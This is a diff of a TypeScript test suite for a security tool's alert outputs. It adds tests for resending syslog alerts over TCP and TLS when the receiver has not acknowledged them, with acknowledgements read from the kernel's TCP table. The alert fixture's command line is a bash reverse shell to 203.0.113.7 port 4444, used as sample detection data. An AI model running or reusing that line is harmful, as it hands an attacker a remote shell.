@@ -25,7 +25,9 @@ import { SEVERITIES } from '../../src/rules/index.js';
 import { Logger } from '../../src/runtime/log.js';
 import { chatText, createAlertOutputs, type AlertOutputs, type OutputStats } from '../../src/server/alerts/outputs/index.js';
 import { backoffDelay, OutputQueue } from '../../src/server/alerts/outputs/queue.js';
+import { ResendBuffer } from '../../src/server/alerts/outputs/resend.js';
 import { formatSyslog, SyslogTransport } from '../../src/server/alerts/outputs/syslog.js';
+import { procEnd, unacknowledgedBytes, unacknowledgedIn } from '../../src/server/alerts/outputs/tcp-acks.js';
 import { checkAlertOutputFiles, scopeOf } from '../../src/server/alerts/outputs/transport.js';
 import type { Alert } from '../../src/server/alerts/types.js';
 import { Pki, x509 } from '../../src/server/pki.js';
@@ -96,6 +98,20 @@ function makeAlert(overrides: Partial<Alert> & { severity?: Alert['rule']['sever
     process: { pid: 4242, executable: '/usr/bin/bash', command_line: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' },
     status: 'new',
     ...rest,
+  };
+}
+
+/** A reader of octet-counted syslog frames that pushes the id of each alert into `into`. */
+function frames(into: string[]): (chunk: Buffer) => void {
+  let buffer = Buffer.alloc(0);
+  return (chunk: Buffer) => {
+    buffer = Buffer.concat([buffer, chunk]);
+    for (let space = buffer.indexOf(0x20); space > 0; space = buffer.indexOf(0x20)) {
+      const length = Number(buffer.subarray(0, space).toString('latin1'));
+      if (buffer.length < space + 1 + length) break;
+      into.push(JSON.parse(parseSyslog(buffer.subarray(space + 1, space + 1 + length).toString('utf8')).msg).id as string);
+      buffer = buffer.subarray(space + 1 + length);
+    }
   };
 }
 
@@ -593,6 +609,72 @@ describe('alert outputs: the queue', () => {
     assert.deepEqual(delivered.map((json) => json[0]), ['a', 'g']);
     assert.equal(queue.queued, 0);
     await queue.close();
+  });
+});
+
+describe('alert outputs: the resend buffer of syslog over TCP and TLS', () => {
+  it('releases alerts by their end offsets as acknowledged bytes grow, bounds them, and writes them again in order after a dead connection', () => {
+    const buffer = new ResendBuffer<string>(3, 100);
+    const bytes = (n: number) => Buffer.alloc(n, 0x61);
+    const write = (item: string, size: number, complete = true): number => {
+      const end = buffer.reserve(size);
+      assert.ok(buffer.hold(item, bytes(size), end));
+      if (complete) buffer.completed(end);
+      return end;
+    };
+    assert.ok(buffer.hasRoom(1000), 'an empty buffer takes any one alert');
+    assert.equal(write('a', 10), 10);
+    assert.equal(write('b', 20), 30);
+    assert.equal(write('c', 30, false), 60, 'its write has not completed: not in the kernel yet');
+    assert.deepEqual({ size: buffer.size, bytes: buffer.bytes, base: buffer.base }, { size: 3, bytes: 60, base: 30 });
+    assert.equal(buffer.hasRoom(1), false, 'three alerts at most');
+    const connection = buffer.generation;
+    // Read with 30 bytes in the kernel: 25 not acknowledged, 5 acknowledged, no alert whole.
+    assert.deepEqual(buffer.acknowledge(connection, 30, 25), { released: 0, progress: true });
+    assert.deepEqual(buffer.acknowledge(connection, 30, 25), { released: 0, progress: false }, 'the same count is no progress');
+    // Under TLS the kernel counts record overhead too: more unacknowledged than written is no progress.
+    assert.deepEqual(buffer.acknowledge(connection, 30, 40), { released: 0, progress: false });
+    assert.deepEqual(buffer.acknowledge(connection, 30, 20), { released: 1, progress: true }, 'a ends at 10');
+    assert.deepEqual({ size: buffer.size, bytes: buffer.bytes }, { size: 2, bytes: 50 });
+    assert.ok(buffer.hasRoom(50));
+    assert.equal(buffer.hasRoom(51), false, '100 bytes at most');
+    // The connection dies: b, the oldest unacknowledged, is charged; both are written again from offset 0.
+    assert.equal(buffer.restart(2), undefined);
+    assert.notEqual(buffer.generation, connection);
+    assert.deepEqual(buffer.acknowledge(connection, 60, 0), { released: 0, progress: false }, 'a reading of the dead connection is ignored');
+    assert.equal(buffer.pending, 2);
+    assert.deepEqual(buffer.unwritten().map((e) => [e.item, e.end, e.failures]), [['b', undefined, 1], ['c', undefined, 0]]);
+    const [b, c] = buffer.unwritten();
+    assert.equal(buffer.rewrite(b!), 20);
+    assert.equal(buffer.rewrite(c!), 50);
+    assert.deepEqual({ pending: buffer.pending, sends: [b!.sends, c!.sends] }, { pending: 0, sends: [2, 2] });
+    buffer.completed(50);
+    assert.equal(write('d', 5), 55);
+    // All acknowledged: everything goes, and an alert written before a reading that already covers it is not held.
+    assert.deepEqual(buffer.acknowledge(buffer.generation, 55, 0), { released: 3, progress: true });
+    assert.equal(buffer.hold('late', bytes(5), 55), false);
+    assert.deepEqual({ size: buffer.size, bytes: buffer.bytes }, { size: 0, bytes: 0 });
+    // The oldest alert on two dead connections in a row is given up (max_attempts 2); the next one is not charged.
+    write('e', 10);
+    write('f', 10);
+    assert.equal(buffer.restart(2), undefined);
+    for (const entry of buffer.unwritten()) buffer.completed(buffer.rewrite(entry));
+    assert.equal(buffer.restart(2)?.item, 'e');
+    assert.deepEqual(buffer.unwritten().map((e) => [e.item, e.failures]), [['f', 0]]);
+    assert.equal(buffer.restart(0), undefined, 'f was not written on that connection: not charged');
+    assert.equal(buffer.unwritten()[0]!.failures, 0);
+    assert.equal(buffer.clear(), 1);
+  });
+
+  it('stays right across the compactions of its storage over many alerts', () => {
+    const buffer = new ResendBuffer<number>(10_000, 1 << 30);
+    for (let i = 0; i < 50_000; i++) {
+      const end = buffer.reserve(10);
+      buffer.hold(i, Buffer.alloc(10), end);
+      buffer.completed(end);
+      if (i % 100 === 99) assert.equal(buffer.acknowledge(buffer.generation, buffer.base, 0).released, 100);
+    }
+    assert.equal(buffer.size, 0);
   });
 });
 
@@ -1130,6 +1212,8 @@ describe('alert outputs: syslog', () => {
       assert.deepEqual(receiver.frameErrors, []);
       assert.deepEqual(receiver.messages.map((m) => JSON.parse(parseSyslog(m).msg).id), alerts.map((a) => a.id));
       assert.deepEqual(receiver.messages.map((m) => parseSyslog(m).pri), [23 * 8 + 2, 23 * 8 + 2, 23 * 8 + 4]);
+      // Sent once the receiver's TCP acknowledged it (a moment after it arrived).
+      await waitFor('three sent', () => statsOf(outputs, 's').sent === 3);
       // The receiver restarts: the next alert goes over a new connection.
       receiver.dropConnections();
       await sleep(50);
@@ -1137,9 +1221,314 @@ describe('alert outputs: syslog', () => {
       outputs.send(next);
       await waitFor('the fourth message', () => receiver.messages.length === 4);
       assert.equal(JSON.parse(parseSyslog(receiver.messages[3]!).msg).id, next.id);
-      assert.equal(statsOf(outputs, 's').sent, 4);
+      await waitFor('four sent', () => statsOf(outputs, 's').sent === 4);
     } finally {
       await receiver.close();
+    }
+  });
+
+  it('bounds the host name lookup of a UDP receiver by timeout_ms, counted as a coded failure, without a second lookup in parallel', async () => {
+    const receiver = dgram.createSocket('udp4');
+    await new Promise<void>((resolve) => receiver.bind(0, '127.0.0.1', resolve));
+    const received: string[] = [];
+    receiver.on('message', (bytes) => received.push(JSON.parse(parseSyslog(bytes.toString('utf8')).msg).id as string));
+    // A resolver that does not answer (until told to): the C library's own bound is resolv.conf's
+    // timeout x attempts x servers, 10 s by default and minutes with other settings.
+    let lookups = 0;
+    let answered = false;
+    let answer: (address: { address: string; family: number }) => void = () => undefined;
+    const resolver = (host: string) => {
+      lookups++;
+      assert.equal(host, 'siem.example.org');
+      if (answered) return Promise.resolve({ address: '127.0.0.1', family: 4 });
+      return new Promise<{ address: string; family: number }>((resolve) => (answer = resolve));
+    };
+    const [config] = outputsConfig(`alerts: { outputs: [ { name: s, type: syslog, syslog: { transport: udp, host: siem.example.org, port: ${receiver.address().port}, timeout_ms: 200 } } ] }`);
+    const transport = new SyslogTransport('s', config!.syslog!, 'hades-test', { resolve: resolver });
+    const queue = new OutputQueue(transport, { name: 's', capacity: 10, maxAttempts: 5, backoffMs: 10, backoffMaxMs: 20, log: logger() });
+    try {
+      const alert = makeAlert();
+      const start = Date.now();
+      queue.push({ alert, json: JSON.stringify(alert) });
+      await waitFor('a failed attempt', () => queue.counters.failed_attempts >= 1);
+      assert.ok(Date.now() - start < 1000, `after ${Date.now() - start} ms`);
+      assert.equal(queue.lastError?.code, 'HADES_ERR_ALERT_OUTPUT_TIMEOUT');
+      assert.match(queue.lastError?.message ?? '', /no answer from the resolver for siem\.example\.org within 200 ms/);
+      await waitFor('more failed attempts', () => queue.counters.failed_attempts >= 3);
+      assert.deepEqual({ sent: queue.counters.sent, failed: queue.counters.failed, queued: queue.queued }, { sent: 0, failed: 0, queued: 1 }, 'the alert keeps its place');
+      assert.equal(lookups, 1, 'the attempts wait on the lookup in progress');
+      answered = true;
+      answer({ address: '127.0.0.1', family: 4 });
+      await waitFor('the datagram', () => received.length === 1);
+      assert.deepEqual(received, [alert.id]);
+      await waitFor('sent', () => queue.counters.sent === 1);
+    } finally {
+      await queue.close();
+      receiver.close();
+    }
+  });
+
+  it('reads what the peer has not acknowledged of a connection from the kernel table, IPv4 and IPv6', async () => {
+    assert.equal(procEnd('127.0.0.1', 514, 'LE'), '0100007F:0202');
+    assert.equal(procEnd('127.0.0.1', 514, 'BE'), '7F000001:0202');
+    assert.equal(procEnd('::1', 6514, 'LE'), '00000000000000000000000001000000:1972');
+    assert.equal(procEnd('::ffff:10.0.0.1', 1, 'LE'), '0000000000000000FFFF00000100000A:0001');
+    assert.equal(procEnd('2001:db8::1%eth0', 1, 'BE'), '20010DB8000000000000000000000001:0001');
+    assert.equal(procEnd('siem', 1), undefined);
+    const table = '  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n   0: 0100007F:9C40 0100007F:0202 01 0000A000:00000000 01:00000014 00000000     0        0 4242 1\n';
+    assert.equal(unacknowledgedIn(table, '0100007F:9C40', '0100007F:0202'), 0xa000);
+    assert.equal(unacknowledgedIn(table, '0100007F:9C41', '0100007F:0202'), 'gone');
+    // A real connection over each family: everything written is acknowledged, then it is gone.
+    for (const host of ['127.0.0.1', '::1']) {
+      const server = net.createServer((socket) => socket.resume());
+      await new Promise<void>((resolve) => server.listen(0, host, resolve));
+      const socket = net.connect((server.address() as net.AddressInfo).port, host);
+      await new Promise((resolve) => socket.once('connect', resolve));
+      await new Promise((resolve) => socket.write(Buffer.alloc(10_000), resolve));
+      for (let tries = 0; (await unacknowledgedBytes(socket)) !== 0; tries++) {
+        assert.ok(tries < 100, `acknowledged over ${host}`);
+        await sleep(10);
+      }
+      socket.destroy();
+      await new Promise((resolve) => socket.once('close', resolve));
+      assert.equal(await unacknowledgedBytes({ localAddress: '127.0.0.1', localPort: 1, remoteAddress: '127.0.0.1', remotePort: 1 }), 'gone');
+      assert.equal(await unacknowledgedBytes(socket), 'gone');
+      await new Promise((resolve) => server.close(resolve));
+    }
+    assert.equal(await unacknowledgedBytes({ localAddress: '127.0.0.1', localPort: 1, remoteAddress: '127.0.0.1', remotePort: 2 }, path.join(tempDir(), 'no-such-table')), 'unknown');
+  });
+
+  for (const transport of ['tcp', 'tls'] as const) {
+    it(`notices within timeout_ms a ${transport.toUpperCase()} receiver that acknowledges nothing, and sends its unacknowledged alerts again`, async () => {
+      // A receiver whose host is gone without a FIN or a reset acknowledges nothing, and the kernel
+      // retransmits for ~15 minutes: written into the send buffer, alerts counted as sent were
+      // lost. Here the first connection is accepted and never read (its window fills, then
+      // nothing more is acknowledged); later connections are read.
+      const stalled: string[] = [];
+      const later: string[] = [];
+      const sockets: net.Socket[] = [];
+      const onSocket = (socket: net.Socket) => {
+        sockets.push(socket);
+        socket.on('error', () => socket.destroy());
+        if (sockets.length === 1) socket.pause();
+        else socket.on('data', frames(later));
+      };
+      const server = transport === 'tls' ? tls.createServer({ key: pki.serverKeyPem, cert: pki.serverCertPem }, onSocket) : net.createServer(onSocket);
+      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+      try {
+        const timeoutMs = 500;
+        const tlsYaml = transport === 'tls' ? `, tls: { ca_file: ${pki.paths.caCert} }` : '';
+        const outputs = create(`alerts: { outputs: [ { name: s, type: syslog, ${retryYaml}, syslog: { transport: ${transport}, host: 127.0.0.1, port: ${(server.address() as net.AddressInfo).port}, timeout_ms: ${timeoutMs}, max_message_bytes: 65507${tlsYaml} } } ] }`);
+        // 40 kB each: the window of the unread connection holds a few of them.
+        const alerts = Array.from({ length: 12 }, () => makeAlert({ process: { pid: 1, executable: '/usr/bin/bash', command_line: 'x'.repeat(40_000) } }));
+        const start = Date.now();
+        for (const alert of alerts) outputs.send(alert);
+        await waitFor('the dead connection noticed', () => statsOf(outputs, 's').failed_attempts > 0, 10_000);
+        const noticedMs = Date.now() - start;
+        let stats = statsOf(outputs, 's');
+        assert.equal(stats.last_error?.code, 'HADES_ERR_ALERT_OUTPUT_TIMEOUT');
+        assert.match(stats.last_error?.message ?? '', /acknowledged nothing for 500 ms, with \d+ alerts written and not acknowledged; the connection is taken as dead and closed, and they are sent again/);
+        assert.ok(stats.sent < alerts.length, `only what the receiver acknowledged counts as sent (${stats.sent})`);
+        // Found by a reading of the table: within timeout_ms and a quarter of it, plus a reading.
+        assert.ok(noticedMs < timeoutMs * 1.25 + 1000, `noticed after ${noticedMs} ms`);
+        await waitFor('every alert delivered', () => statsOf(outputs, 's').sent === alerts.length, 10_000);
+        stats = statsOf(outputs, 's');
+        assert.deepEqual({ failed: stats.failed, dropped: stats.dropped, queued: stats.queued, unacknowledged: stats.unacknowledged }, { failed: 0, dropped: 0, queued: 0, unacknowledged: 0 });
+        // What the dead connection held went again, first, on the next one.
+        assert.ok(stats.resent > 0 && stats.resent <= later.length, `resent ${stats.resent} of ${later.length}`);
+        // What the first connection's host acknowledged is in its receive buffer: read it now.
+        sockets[0]!.on('data', frames(stalled)).resume();
+        await waitFor('the stalled connection read', () => stalled.length >= stats.sent - later.length);
+        // Every alert reached the receiver, in order on each connection; the one that was out when the
+        // connection was given up may have come twice (at least once).
+        const ids = alerts.map((a) => a.id);
+        assert.deepEqual(later, ids.slice(ids.length - later.length));
+        assert.deepEqual(stalled.slice(0, ids.length - later.length), ids.slice(0, ids.length - later.length));
+        assert.deepEqual(new Set([...stalled, ...later]), new Set(ids));
+      } finally {
+        for (const socket of sockets) socket.destroy();
+        await new Promise((resolve) => server.close(resolve));
+      }
+    });
+  }
+
+  it('sends again, first, the alerts a receiver that resets the connection had not been seen to acknowledge', async () => {
+    const first: string[] = [];
+    const second: string[] = [];
+    const sockets: net.Socket[] = [];
+    const server = net.createServer((socket) => {
+      sockets.push(socket);
+      socket.on('error', () => socket.destroy());
+      socket.on('data', frames(sockets.length === 1 ? first : second));
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    try {
+      const outputs = create(`alerts: { outputs: [ { name: s, type: syslog, ${retryYaml}, syslog: { transport: tcp, host: 127.0.0.1, port: ${(server.address() as net.AddressInfo).port} } } ] }`);
+      const alerts = Array.from({ length: 10 }, () => makeAlert());
+      const ids = alerts.map((a) => a.id);
+      for (const alert of alerts.slice(0, 5)) outputs.send(alert);
+      await waitFor('five read', () => first.length === 5);
+      // The receiver stops reading; its host still takes (and acknowledges) the next five, then
+      // it resets the connection (RST), which throws them away unread: without sending again,
+      // they would be lost although written.
+      sockets[0]!.pause();
+      for (const alert of alerts.slice(5)) outputs.send(alert);
+      await waitFor('ten handed over', () => statsOf(outputs, 's').queued === statsOf(outputs, 's').unacknowledged);
+      sockets[0]!.resetAndDestroy();
+      await waitFor('every alert acknowledged', () => statsOf(outputs, 's').sent === alerts.length, 10_000);
+      await waitFor('every alert read again', () => second.length === 10);
+      const stats = statsOf(outputs, 's');
+      assert.deepEqual(first, ids.slice(0, 5));
+      // The reset came before a reading of the table (every 2 s) released any of them: all
+      // ten go again, in order, on the next connection (at least once).
+      assert.deepEqual(second, ids);
+      assert.equal(stats.resent, 10);
+      assert.equal(stats.last_error?.code, 'HADES_ERR_ALERT_OUTPUT_UNREACHABLE');
+      assert.match(stats.last_error?.message ?? '', /ECONNRESET; the 10 alerts it had not acknowledged are sent again/);
+      assert.deepEqual({ failed: stats.failed, dropped: stats.dropped, queued: stats.queued, unacknowledged: stats.unacknowledged }, { failed: 0, dropped: 0, queued: 0, unacknowledged: 0 });
+    } finally {
+      for (const socket of sockets) socket.destroy();
+      await new Promise((resolve) => server.close(resolve));
+    }
+  });
+
+  it('gives up, after max_attempts connections, an alert the receiver resets the connection on every time', async () => {
+    let connections = 0;
+    const server = net.createServer((socket) => {
+      connections++;
+      socket.on('error', () => socket.destroy());
+      socket.once('data', () => socket.resetAndDestroy());
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    const sink = new LogSink();
+    try {
+      const outputs = create(`alerts: { outputs: [ { name: s, type: syslog, ${retryYaml}, syslog: { transport: tcp, host: 127.0.0.1, port: ${(server.address() as net.AddressInfo).port} } } ] }`, logger(sink));
+      const alert = makeAlert();
+      outputs.send(alert);
+      await waitFor('the alert given up', () => statsOf(outputs, 's').failed === 1, 10_000);
+      const stats = statsOf(outputs, 's');
+      assert.deepEqual({ sent: stats.sent, queued: stats.queued, unacknowledged: stats.unacknowledged, dropped: stats.dropped }, { sent: 0, queued: 0, unacknowledged: 0, dropped: 0 });
+      assert.equal(connections, quick.max_attempts);
+      assert.equal(stats.resent, quick.max_attempts - 1);
+      const line = sink.lines().find((l) => l.alert_id === alert.id);
+      assert.equal(line?.attempts, quick.max_attempts);
+      assert.equal(line?.code, 'HADES_ERR_ALERT_OUTPUT_UNREACHABLE');
+    } finally {
+      await new Promise((resolve) => server.close(resolve));
+    }
+  });
+
+  it('hands 500 alerts over without waiting for their acknowledgements, with a few readings of the kernel table, to a receiver that reads every 50 ms', async () => {
+    // The receiver reads what has arrived, then nothing for 50 ms, again and again: each alert
+    // waiting for its acknowledgement (one reading of the table, then the next alert) would take
+    // hundreds of rounds and readings; here alerts go as fast as the connection takes them, and
+    // a reading every 2 s (every 0.5 s while the buffer of held alerts is full) releases them.
+    const received: string[] = [];
+    const sockets: net.Socket[] = [];
+    const timers = new Set<NodeJS.Timeout>();
+    const server = net.createServer((socket) => {
+      sockets.push(socket);
+      socket.on('error', () => socket.destroy());
+      socket.on('data', frames(received));
+      const round = (): void => {
+        socket.pause();
+        const timer = setTimeout(() => {
+          timers.delete(timer);
+          socket.resume();
+          setImmediate(round);
+        }, 50);
+        timers.add(timer);
+      };
+      round();
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    const [config] = outputsConfig(`alerts: { outputs: [ { name: s, type: syslog, syslog: { transport: tcp, host: 127.0.0.1, port: ${(server.address() as net.AddressInfo).port} } } ] }`);
+    let readings = 0;
+    // The real reader of /proc/net/tcp, counted.
+    const transport = new SyslogTransport('s', config!.syslog!, 'hades-test', { maxHeldAlerts: 200, unacknowledged: (socket) => (readings++, unacknowledgedBytes(socket)) });
+    const queue = new OutputQueue(transport, { name: 's', capacity: 1000, maxAttempts: 5, backoffMs: 10, backoffMaxMs: 20, log: logger() });
+    try {
+      const alerts = Array.from({ length: 500 }, () => makeAlert());
+      const start = Date.now();
+      for (const alert of alerts) queue.push({ alert, json: JSON.stringify(alert) });
+      await waitFor('all 500 handed over', () => queue.queued === queue.unacknowledged, 20_000);
+      const handedMs = Date.now() - start;
+      await waitFor('all 500 acknowledged', () => queue.counters.sent === 500, 20_000);
+      const doneMs = Date.now() - start;
+      await waitFor('all 500 read', () => received.length === 500);
+      assert.deepEqual(received, alerts.map((a) => a.id), 'each once, in order');
+      // One round each would be 25 s; a reading of the table each, 500 readings.
+      assert.ok(handedMs < 5000, `handed over in ${handedMs} ms`);
+      assert.ok(doneMs < 8000, `acknowledged in ${doneMs} ms`);
+      assert.ok(readings <= 20, `${readings} readings`);
+      assert.deepEqual({ failed_attempts: queue.counters.failed_attempts, resent: transport.resent, unacknowledged: queue.unacknowledged }, { failed_attempts: 0, resent: 0, unacknowledged: 0 });
+    } finally {
+      await queue.close();
+      for (const timer of timers) clearTimeout(timer);
+      for (const socket of sockets) socket.destroy();
+      await new Promise((resolve) => server.close(resolve));
+    }
+  });
+
+  it('counts written alerts as delivered where the kernel table cannot be read, finding that out once per connection', async () => {
+    const receiver = new StreamReceiver();
+    const port = await receiver.start();
+    const [config] = outputsConfig(`alerts: { outputs: [ { name: s, type: syslog, syslog: { transport: tcp, host: 127.0.0.1, port: ${port}, timeout_ms: 1000 } } ] }`);
+    let readings = 0;
+    // A table that is not there, as on a system without /proc.
+    const missing = path.join(tempDir(), 'no-proc-net-tcp');
+    const transport = new SyslogTransport('s', config!.syslog!, 'hades-test', { unacknowledged: (socket) => (readings++, unacknowledgedBytes(socket, missing)) });
+    const queue = new OutputQueue(transport, { name: 's', capacity: 100, maxAttempts: 5, backoffMs: 10, backoffMaxMs: 20, log: logger() });
+    try {
+      const push = (count: number) => {
+        for (let i = 0; i < count; i++) {
+          const alert = makeAlert();
+          queue.push({ alert, json: JSON.stringify(alert) });
+        }
+      };
+      push(5);
+      await waitFor('the first reading', () => readings === 1);
+      await waitFor('the five released', () => queue.counters.sent === 5);
+      // Then written is delivered at once, with no reading.
+      push(20);
+      await waitFor('twenty-five sent', () => queue.counters.sent === 25);
+      assert.equal(queue.unacknowledged, 0);
+      await sleep(400);
+      assert.equal(readings, 1);
+      assert.equal(receiver.messages.length, 25);
+    } finally {
+      await queue.close();
+      await receiver.close();
+    }
+  });
+
+  it('says at close how many written alerts the receiver had not acknowledged, and counts them as dropped', async () => {
+    const sockets: net.Socket[] = [];
+    // A receiver that reads nothing: its window fills and the rest stays unacknowledged.
+    const server = net.createServer((socket) => {
+      sockets.push(socket);
+      socket.on('error', () => socket.destroy());
+      socket.pause();
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    const sink = new LogSink();
+    try {
+      const outputs = create(`alerts: { outputs: [ { name: s, type: syslog, ${retryYaml}, syslog: { transport: tcp, host: 127.0.0.1, port: ${(server.address() as net.AddressInfo).port}, max_message_bytes: 65507 } } ] }`, logger(sink));
+      const alerts = Array.from({ length: 12 }, () => makeAlert({ process: { pid: 1, executable: '/usr/bin/bash', command_line: 'x'.repeat(40_000) } }));
+      for (const alert of alerts) outputs.send(alert);
+      await waitFor('all written', () => statsOf(outputs, 's').unacknowledged === alerts.length);
+      await outputs.close(600);
+      const stats = statsOf(outputs, 's');
+      assert.ok(stats.dropped > 0, 'the window of an unread connection cannot take 480 kB');
+      assert.equal(stats.sent + stats.dropped, alerts.length);
+      assert.deepEqual({ queued: stats.queued, unacknowledged: stats.unacknowledged, failed: stats.failed }, { queued: 0, unacknowledged: 0, failed: 0 });
+      const line = sink.lines().find((l) => /not acknowledged at close and may be lost/.test(l.msg ?? l.message ?? ''));
+      assert.ok(line, sink.text);
+      assert.equal(line.code, 'HADES_ERR_ALERT_OUTPUT_DROPPED');
+      assert.equal(line.unacknowledged, stats.dropped);
+    } finally {
+      for (const socket of sockets) socket.destroy();
+      await new Promise((resolve) => server.close(resolve));
     }
   });
 
@@ -1164,6 +1553,7 @@ describe('alert outputs: syslog', () => {
         receiver.messages.map((m) => JSON.parse(parseSyslog(m).msg).id),
         [alerts[0]!.id, alerts[7]!.id, alerts[8]!.id, alerts[9]!.id],
       );
+      await waitFor('four sent', () => statsOf(outputs, 's').sent === 4);
       stats = statsOf(outputs, 's');
       assert.equal(stats.sent, 4);
       assert.equal(stats.queued, 0);
